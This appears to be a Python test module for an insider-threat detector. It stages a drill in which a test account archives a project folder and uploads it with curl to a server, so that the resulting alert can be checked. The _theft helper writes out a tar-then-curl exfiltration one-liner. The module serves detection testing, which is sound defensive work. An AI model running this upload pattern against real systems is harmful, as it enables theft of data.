"""The drill: a person archives a folder and uploads it; a benign twin sends the same to the backup host."""

from __future__ import annotations

import os
import pwd
import secrets
import shlex
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from .outside import Server
from .site import CommandFailed, Watched
from .test_host import PrivateHost

INSIDER, TWIN = "mallory", "bob"
_MEGABYTE = 1 << 20
_FILES = 12


@dataclass(frozen=True)
class Expected:
    """What the alert must say: who, how that is known, from where, and to which destination."""

    person: str
    how: str
    source: str | None
    destination: str


class LoginDrill:
    """Two accounts of a test host, with real ssh logins over its own sshd."""

    def __init__(self, host: PrivateHost) -> None:
        self._host = host
        self._keys = {name: host.add_user(name, secrets.token_urlsafe(12)) for name in (INSIDER, TWIN)}
        for name in (INSIDER, TWIN):
            _seed(host.homes / name / "project", 2)
        self.watched = Watched(host.logs, host.homes, (host.homes,))
        self.twin = TWIN
        self.describes = f"ssh {INSIDER}@{host.address}"

    def expected(self, stranger: Server) -> Expected:
        """Return what the alert about the insider must say."""
        return Expected(INSIDER, "kernel", self._host.address, stranger.address)

    def take(self, person: str, server: Server) -> None:
        """Log in as person, archive the project and upload it."""
        done = self._host.ssh(person, _theft(server, "$HOME", "czf"), key=self._keys[person])
        if done.returncode != 0:
            raise CommandFailed(f"the drill's login of {person} failed: {done.stderr.strip()}")


class LocalDrill:
    """Without root there are no accounts to make: this user does it, and is known by uid.

    It takes more, and does not compress it: a sensor that may only look now and then must see it pass.
    """

    def __init__(self, folder: Path) -> None:
        self._folder = folder
        _seed(folder / "project", 10)
        (folder / "log").mkdir()
        self.watched = Watched(folder / "log", folder, (folder / "project",))
        self.twin = _this_user()
        self.describes = f"{_this_user()} in a shell"

    def expected(self, stranger: Server) -> Expected:
        """Return what the alert about this user must say."""
        return Expected(_this_user(), "uid", None, stranger.address)

    def take(self, person: str, server: Server) -> None:
        """Archive the project and upload it; person is this user, whoever was asked for."""
        command = ["sh", "-c", _theft(server, shlex.quote(str(self._folder)), "cf")]
        done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
        if done.returncode != 0:
            raise CommandFailed(f"the drill of {person} failed: {done.stderr.strip()}")


@contextmanager
def make_drill(folder: Path) -> Iterator[LoginDrill | LocalDrill]:
    """Yield a drill with real logins as root, else the local one.

    Raises:
        RuntimeError: root may not make a mount namespace; only an ordinary user's act has a person here.
    """
    if os.geteuid() != 0:
        yield LocalDrill(folder)
        return
    if subprocess.run(["unshare", "--mount", "true"], capture_output=True, check=False).returncode != 0:
        raise RuntimeError("this root may not make accounts of its own to play with; be an ordinary user")
    with PrivateHost(folder) as host:
        yield LoginDrill(host)


def _this_user() -> str:
    return pwd.getpwuid(os.getuid()).pw_name


def _theft(server: Server, home: str, how: str) -> str:
    archive = f"{home}/report.tgz"
    url = f"http://{server.address}:{server.port}/report.tgz"
    return (
        f"tar {how} {archive} -C {home} project && curl -sS --noproxy '*' -T {archive} {url} && rm {archive}"
    )


def _seed(folder: Path, megabytes: int) -> None:
    """Fill folder with files that do not compress, so that the archive is as large as they are."""
    folder.mkdir(parents=True)
    for number in range(_FILES):
        (folder / f"design-{number:02d}.bin").write_bytes(os.urandom(megabytes * _MEGABYTE))
    for path in (folder, *folder.iterdir()):
        path.chmod(0o755 if path.is_dir() else 0o644)
